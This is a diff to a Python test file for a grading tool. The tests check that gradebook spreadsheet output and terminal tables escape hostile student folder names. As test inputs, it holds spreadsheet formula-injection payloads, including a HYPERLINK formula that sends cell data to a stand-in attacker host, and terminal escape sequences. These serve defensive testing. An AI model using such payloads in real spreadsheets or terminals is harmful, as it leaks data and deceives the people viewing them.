@@ -10,6 +10,7 @@ from grader import kit
 from grader.batch import BatchOptions, grade_batch
 from grader.curriculum import of_module
 from grader.gradebook import format_table, spreadsheet_text
+from grader.spec import SubmissionResult
 from grader.terminal import shown
 
 FORMULA_IDS = ['=HYPERLINK("evil.example?leak="&B2,"open")', "+1", "-x", "@SUM(A1:A9)", "\tx", "\r=1", " =1+1"]
@@ -65,7 +66,7 @@ def test_the_terminal_table_escapes_control_characters_and_undecodable_bytes(tmp
     summary = grade_batch(tmp_path / "subs", tmp_path / "out", BatchOptions())
     table = format_table(summary.results)
     assert "\x1b" not in table and "\x07" not in table and "\u202e" not in table
-    assert "eve\\x1b[2J\\x1b]0;owned\\x07\\u202e\\xff" in table
+    assert "eve\\x1b[2J\\x1b]0;owned\\x07\\u202e\\udcff" in table
 
 
 def test_the_gradebook_escapes_bidirectional_overrides_control_characters_and_undecodable_bytes(tmp_path):
@@ -93,3 +94,10 @@ def test_no_two_folders_are_written_as_one_id(tmp_path):
     names = {name for pair in pairs for name in pair}
     assert len({gradebook_id(name) for name in names}) == len(names)
     assert gradebook_id("ann") == "ann" and gradebook_id("José") == "José" and gradebook_id("o'brien") == "o'brien"
+
+
+def test_no_two_student_ids_look_alike_in_the_terminal_table():
+    """Red team round 55, 06: the terminal table showed a folder holding an ESC and one named `\\x1b` alike."""
+    students = ["alice\x1b", "alice\\x1b", "eve\x85", "eve" + b"\x85".decode("utf-8", "surrogateescape")]
+    table = format_table([SubmissionResult(student, ()) for student in students])
+    assert len({line.split()[0] for line in table.splitlines()[2:]}) == len(students), table
